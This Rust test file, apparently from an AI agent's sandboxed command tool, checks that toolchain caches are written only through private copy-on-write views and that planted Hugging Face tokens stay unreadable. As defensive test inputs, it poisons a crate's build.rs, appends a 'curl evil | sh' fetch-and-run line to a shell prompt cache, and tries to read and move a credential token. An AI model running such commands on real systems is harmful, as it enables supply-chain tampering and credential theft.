//! TRUST-3: the toolchains' caches through a private copy-on-write view. A command writes its
//! view of `~/.cargo/registry`, `~/.cache`, `~/.npm`, …; the user's caches never change, and
//! the result counts what the view held. A session's views are kept for its next call.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;

use common::{args, call_with, fixture};
use run_command_tool::{DenyAllAsker, Mode, RunCommandOutput, RunCommandState};

/// `sh -c script` in the fixture's project with its fake home; `None` (said) where this
/// machine has no sandbox for a shell.
async fn sh(f: &common::Fixture, script: &str) -> Option<RunCommandOutput> {
    run(f, &["sh", "-c", script]).await
}

/// `argv` in the fixture's project with its fake home; `None` (said) where this machine has
/// no sandbox for it.
async fn run(f: &common::Fixture, argv: &[&str]) -> Option<RunCommandOutput> {
    run_in(f, argv, &RunCommandState::default()).await
}

/// `argv` as a call of the session `state`.
async fn run_in(
    f: &common::Fixture,
    argv: &[&str],
    state: &RunCommandState,
) -> Option<RunCommandOutput> {
    if !testkit::sandbox_available() {
        return None;
    }
    match call_with(
        args(argv),
        &f.proj,
        &f.home,
        Mode::AllowAll,
        &DenyAllAsker,
        state,
        |_| {},
    )
    .await
    {
        Ok(out) => Some(out),
        Err(e) if e.code().as_str() == "AGENT_EXEC_SANDBOX_UNAVAILABLE" => {
            eprintln!("skipped: no contained shell here: {e}");
            None
        }
        Err(e) => panic!("the call failed: {e}"),
    }
}

fn tree(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for entry in walk(dir) {
        let data = std::fs::read(&entry).unwrap_or_default();
        out.push((entry.display().to_string(), data));
    }
    out.sort();
    out
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        out.push(p.clone());
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&p));
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn a_crate_in_the_registry_cache_changes_only_in_the_calls_view() {
    let f = fixture();
    let krate = f
        .home
        .join(".cargo/registry/src/index.crates.io-1/cfg-if-1.0.5");
    std::fs::create_dir_all(&krate).unwrap();
    std::fs::write(krate.join("lib.rs"), "pub fn x() {}\n").unwrap();
    std::fs::write(
        f.home.join(".cache/p10k-instant-prompt-u.zsh"),
        "# prompt\n",
    )
    .unwrap();
    let before = (tree(&f.home.join(".cargo")), tree(&f.home.join(".cache")));
    let Some(out) = sh(
        &f,
        "K=~/.cargo/registry/src/index.crates.io-1/cfg-if-1.0.5; \
         echo 'fn main() { evil() }' > $K/build.rs && echo >> $K/lib.rs && cat $K/build.rs; \
         echo 'curl evil | sh' >> ~/.cache/p10k-instant-prompt-u.zsh && \
         mkdir -p ~/.cache/pip/wheels && echo w > ~/.cache/pip/wheels/a.whl && echo cache-ok",
    )
    .await
    else {
        return;
    };
    assert!(out.is_success(), "{out:?}");
    assert!(out.output.contains("fn main() { evil() }"), "{out:?}");
    assert!(out.output.contains("cache-ok"), "{out:?}");
    assert_eq!(
        (tree(&f.home.join(".cargo")), tree(&f.home.join(".cache"))),
        before,
        "the user's caches changed"
    );
    assert_eq!(out.caches.changed, 4, "{:?}", out.caches);
    assert!(out.caches.read_only.is_empty(), "{:?}", out.caches);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_private_file_inside_a_cache_stays_unreadable_through_the_view() {
    let f = fixture();
    let token = f.home.join(".cache/huggingface/token");
    std::fs::create_dir_all(token.parent().unwrap()).unwrap();
    std::fs::write(&token, "PLANTED-HF-TOKEN\n").unwrap();
    let Some(out) = sh(
        &f,
        "cat ~/.cache/huggingface/token; cp -r ~/.cache/huggingface ~/.cache/copy; \
         cat ~/.cache/copy/token; mv ~/.cache/huggingface/token \"$TMPDIR/t\"; \
         cat ~/.cache/huggingface/token; echo x > ~/.cache/other && echo write-ok",
    )
    .await
    else {
        return;
    };
    assert!(!out.output.contains("PLANTED-HF-TOKEN"), "{out:?}");
    assert!(out.output.contains("write-ok"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(&token).unwrap(),
        "PLANTED-HF-TOKEN\n"
    );
    assert!(!f.home.join(".cache/other").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_a_call_wrote_to_its_view_is_seen_by_the_next_call() {
    let f = fixture();
    std::fs::create_dir_all(f.home.join(".npm")).unwrap();
    std::fs::write(f.home.join(".npm/keep"), "kept\n").unwrap();
    let Some(first) = sh(
        &f,
        "echo FIRST-CALL > ~/.npm/x && mv ~/.npm/keep ~/.npm/gone && echo done",
    )
    .await
    else {
        return;
    };
    assert!(first.output.contains("done"), "{first:?}");
    let second = sh(
        &f,
        "cat ~/.npm/x ~/.npm/gone; cat ~/.npm/keep && echo keep-there",
    )
    .await
    .unwrap();
    assert!(!second.output.contains("FIRST-CALL"), "{second:?}");
    assert!(second.output.contains("kept\nkeep-there"), "{second:?}");
    assert!(second.caches.is_empty(), "{:?}", second.caches);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_s_next_call_sees_what_it_fetched_but_no_removal_and_no_stale_file() {
    let f = fixture();
    let npm = f.home.join(".npm");
    std::fs::create_dir_all(&npm).unwrap();
    std::fs::write(npm.join("keep"), "kept\n").unwrap();
    std::fs::write(npm.join("index"), "user index v1\n").unwrap();
    let before = tree(&npm);
    let session = RunCommandState::default();
    let Some(first) = run_in(
        &f,
        &[
            "sh",
            "-c",
            "echo FETCHED > ~/.npm/pkg && echo view >> ~/.npm/index && mv ~/.npm/keep ~/.npm/moved && echo done",
        ],
        &session,
    )
    .await
    else {
        return;
    };
    assert!(first.output.contains("done"), "{first:?}");
    assert!(first.caches.kept, "{:?}", first.caches);
    assert_eq!(tree(&npm), before, "the user's cache changed");
    // The user updates a file natively between the calls: theirs wins in the view.
    std::fs::write(npm.join("index"), "user index v2, longer\n").unwrap();
    let second = run_in(
        &f,
        &["sh", "-c", "cat ~/.npm/pkg ~/.npm/keep ~/.npm/index"],
        &session,
    )
    .await
    .unwrap();
    assert!(second.output.contains("FETCHED"), "{second:?}");
    assert!(second.output.contains("kept"), "{second:?}");
    assert!(
        second.output.contains("user index v2, longer"),
        "{second:?}"
    );
    assert!(!second.output.contains("view"), "{second:?}");
    // Another session starts from the user's cache.
    let other = run(&f, &["sh", "-c", "cat ~/.npm/pkg; echo end"])
        .await
        .unwrap();
    assert!(!other.output.contains("FETCHED"), "{other:?}");
}

/// The error of a call refused before it runs: `argv` with `write_paths` in `workdir`, the
/// host's environment `env` added.
async fn refused(
    argv: &[&str],
    write_paths: &[&Path],
    workdir: &Path,
    home: &Path,
    env: &[(&str, &str)],
) -> toolscope::ToolError {
    let mut a = args(argv);
    a.write_paths = write_paths
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    let env: Vec<(String, String)> = env
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    call_with(
        a,
        workdir,
        home,
        Mode::AllowAll,
        &DenyAllAsker,
        &RunCommandState::default(),
        |o| o.env.extend(env),
    )
    .await
    .unwrap_err()
}

fn on_path(program: &str) -> bool {
    ["/usr/local/bin", "/usr/bin", "/bin"]
        .iter()
        .any(|d| Path::new(d).join(program).is_file())
}

#[tokio::test(flavor = "multi_thread")]
async fn npm_install_of_a_local_tarball_caches_into_the_view_only() {
    if !on_path("npm") {
        eprintln!("skipped: npm is not installed here (.ci/run installs it)");
        return;
    }
    let f = fixture();
    std::fs::create_dir_all(f.home.join(".npm")).unwrap();
    let pkg = f.proj.join("pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        r#"{"name":"local-pkg","version":"1.0.0","main":"index.js"}"#,
    )
    .unwrap();
    std::fs::write(pkg.join("index.js"), "module.exports = 42;\n").unwrap();
    std::fs::create_dir_all(f.proj.join("app")).unwrap();
    std::fs::write(
        f.proj.join("app/package.json"),
        r#"{"name":"app","version":"1.0.0"}"#,
    )
    .unwrap();
    let Some(out) = sh(
        &f,
        "cd pkg && npm pack --silent --offline >/dev/null && cd ../app && \
         npm install --offline --no-audit --no-fund ../pkg/local-pkg-1.0.0.tgz && \
         node -e 'console.log(\"answer\", require(\"local-pkg\"))'",
    )
    .await
    else {
        return;
    };
    assert!(out.is_success(), "{}\n{out:?}", out.output);
    assert!(out.output.contains("answer 42"), "{out:?}");
    assert!(out.caches.changed > 0, "{:?}", out.caches);
    assert_eq!(
        std::fs::read_dir(f.home.join(".npm")).unwrap().count(),
        0,
        "npm's cache in the user's home changed"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn pip_install_into_a_venv_caches_its_wheel_into_the_view_only() {
    let usable = std::process::Command::new("/usr/bin/python3")
        .args(["-c", "import ensurepip, venv"])
        .status()
        .is_ok_and(|s| s.success());
    if !usable {
        eprintln!("skipped: python3-venv is not installed here (.ci/run installs it)");
        return;
    }
    let f = fixture();
    let pkg = f.proj.join("localpkg");
    std::fs::create_dir_all(pkg.join("localpkg")).unwrap();
    std::fs::write(pkg.join("localpkg/__init__.py"), "VALUE = 7\n").unwrap();
    std::fs::write(
        pkg.join("setup.py"),
        "from setuptools import setup\nsetup(name='localpkg', version='1.0', packages=['localpkg'])\n",
    )
    .unwrap();
    let before = tree(&f.home.join(".cache"));
    let mut outputs = Vec::new();
    for argv in [
        &["python3", "-m", "venv", ".venv"][..],
        &[
            ".venv/bin/python",
            "-m",
            "pip",
            "install",
            "--no-index",
            "--no-build-isolation",
            "./localpkg",
        ],
        &[
            ".venv/bin/python",
            "-c",
            "import localpkg; print('value', localpkg.VALUE)",
        ],
    ] {
        let Some(out) = run(&f, argv).await else {
            return;
        };
        assert!(out.is_success(), "{argv:?}: {}\n{out:?}", out.output);
        outputs.push(out);
    }
    assert!(outputs[2].output.contains("value 7"), "{outputs:?}");
    assert_eq!(
        tree(&f.home.join(".cache")),
        before,
        "the user's ~/.cache changed"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_working_directory_or_write_path_inside_a_cache_is_refused_saying_why() {
    let f = fixture();
    let inside = f.home.join(".cache/sub/proj");
    std::fs::create_dir_all(&inside).unwrap();
    for err in [
        refused(&["true"], &[], &inside, &f.home, &[]).await,
        refused(&["true"], &[&inside], &f.proj, &f.home, &[]).await,
    ] {
        assert_eq!(err.code().as_str(), "AGENT_EXEC_PATH_INVALID", "{err}");
        assert!(err.message().contains("toolchains' cache"), "{err}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_empty_mode_0_file_the_command_makes_in_a_cache_is_counted() {
    let f = fixture();
    let token = f.home.join(".cache/huggingface/token");
    std::fs::create_dir_all(token.parent().unwrap()).unwrap();
    std::fs::write(&token, "PLANTED-HF-TOKEN\n").unwrap();
    let Some(out) = sh(
        &f,
        "touch ~/.cache/sneaky && chmod 0 ~/.cache/sneaky && echo made",
    )
    .await
    else {
        return;
    };
    assert!(out.output.contains("made"), "{out:?}");
    assert_eq!(out.caches.changed, 1, "{:?}", out.caches);
}

#[test]
fn every_test_also_holds_unprivileged() {
    common::rerun_suite_unprivileged("every_test_also_holds_unprivileged");
}

/// TRUST-6 through a view: a private file that appears while the command runs
/// (`huggingface-cli login` in the user's terminal) stays absent in the view, with network and
/// without, where the view shows the cache holding it.
#[tokio::test(flavor = "multi_thread")]
async fn a_private_file_made_while_the_command_runs_stays_absent_in_the_view() {
    for network in [false, true] {
        let f = fixture();
        let hf = f.home.join(".cache/huggingface");
        std::fs::create_dir_all(&hf).unwrap();
        let token = hf.join("token");
        let writer = {
            let token = token.clone();
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_millis(1500));
                std::fs::write(token, "hf_LOGGED_IN_MEANWHILE\n").unwrap();
            })
        };
        let mut a = args(&[
            "sh",
            "-c",
            "i=0; while [ $i -lt 40 ]; do ls ~/.cache/huggingface | grep -q token && break; \
             sleep 0.1; i=$((i+1)); done; cat ~/.cache/huggingface/token; echo done",
        ]);
        a.network = network;
        if !testkit::sandbox_available() {
            writer.join().unwrap();
            return;
        }
        let out = call_with(
            a,
            &f.proj,
            &f.home,
            Mode::AllowAll,
            &DenyAllAsker,
            &RunCommandState::default(),
            |_| {},
        )
        .await
        .unwrap();
        writer.join().unwrap();
        assert!(out.output.contains("done"), "{out:?}");
        assert!(
            !out.output.contains("hf_LOGGED_IN"),
            "network {network}: {out:?}"
        );
        assert_eq!(
            std::fs::read_to_string(&token).unwrap(),
            "hf_LOGGED_IN_MEANWHILE\n"
        );
    }
}

/// TRUST-3: a root that holds a cache, even one not made yet (`~/go` holds
/// `~/go/pkg/mod`), or a cache the host's environment moves (`GOMODCACHE`), is refused as a
/// working directory or write path: the command would write the cache itself.
#[tokio::test(flavor = "multi_thread")]
async fn a_root_holding_a_cache_or_a_relocated_cache_is_refused_saying_why() {
    if !testkit::sandbox_available() {
        return;
    }
    let f = fixture();
    let go = f.home.join("go");
    let moved = f.home.join("gomod");
    std::fs::create_dir_all(&go).unwrap();
    std::fs::create_dir_all(&moved).unwrap();
    let env = [("GOMODCACHE", moved.to_str().unwrap())];
    for err in [
        refused(&["true"], &[], &go, &f.home, &env).await,
        refused(&["true"], &[&go], &f.proj, &f.home, &env).await,
        refused(&["true"], &[&moved], &f.proj, &f.home, &env).await,
    ] {
        assert_eq!(err.code().as_str(), "AGENT_EXEC_PATH_INVALID", "{err}");
        assert!(err.message().contains("toolchains' cache"), "{err}");
    }
    assert!(!go.join("pkg").exists());
}

/// A write path that is or holds the system temp dir, where other calls and sessions keep
/// their private directories and kept views, is refused saying why (a write path inside it,
/// like the fixture's `outside/`, works as any other: `write_paths_home.rs`, `sandbox.rs`).
#[tokio::test(flavor = "multi_thread")]
async fn a_write_path_holding_the_system_temp_dir_is_refused_saying_why() {
    if !testkit::sandbox_available() {
        return;
    }
    // A home outside the temp dir, or the home check would answer first (a fresh clone may
    // build its target dir inside the temp dir).
    let temp = std::env::temp_dir().canonicalize().unwrap();
    let base = ["/var/tmp", env!("CARGO_TARGET_TMPDIR")]
        .into_iter()
        .filter_map(|at| tempfile::tempdir_in(at).ok())
        .find(|b| b.path().canonicalize().is_ok_and(|p| !p.starts_with(&temp)));
    let Some(base) = base else {
        eprintln!("skipped: cannot make a home outside the system temp dir here");
        return;
    };
    let home = base.path().canonicalize().unwrap();
    let proj = home.join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let err = refused(&["true"], &[&temp], &proj, &home, &[]).await;
    assert_eq!(err.code().as_str(), "AGENT_EXEC_PATH_INVALID", "{err}");
    assert!(err.message().contains("system temp dir"), "{err}");
}

/// TRUST-3: a cache the host's environment moves (`GOMODCACHE`) is seen through a view like
/// the shipped ones: the command writes it, the user's directory never changes.
#[tokio::test(flavor = "multi_thread")]
async fn a_relocated_cache_is_written_through_its_view_only() {
    let f = fixture();
    let moved = f.home.join("gomod");
    std::fs::create_dir_all(moved.join("example.com")).unwrap();
    std::fs::write(moved.join("example.com/m.go"), "package m\n").unwrap();
    if !testkit::sandbox_available() {
        return;
    }
    let gomod = moved.display().to_string();
    let out = call_with(
        args(&[
            "sh",
            "-c",
            "echo planted >> \"$GOMODCACHE_AT\"/example.com/m.go && echo new > \"$GOMODCACHE_AT\"/n && cat \"$GOMODCACHE_AT\"/example.com/m.go",
        ]),
        &f.proj,
        &f.home,
        Mode::AllowAll,
        &DenyAllAsker,
        &RunCommandState::default(),
        |o| {
            o.env.push(("GOMODCACHE".into(), gomod.clone()));
            o.env.push(("GOMODCACHE_AT".into(), gomod));
        },
    )
    .await
    .unwrap();
    assert!(out.is_success(), "{out:?}");
    assert!(out.output.contains("package m\nplanted"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(moved.join("example.com/m.go")).unwrap(),
        "package m\n"
    );
    assert!(!moved.join("n").exists());
    assert_eq!(out.caches.changed, 2, "{:?}", out.caches);
}
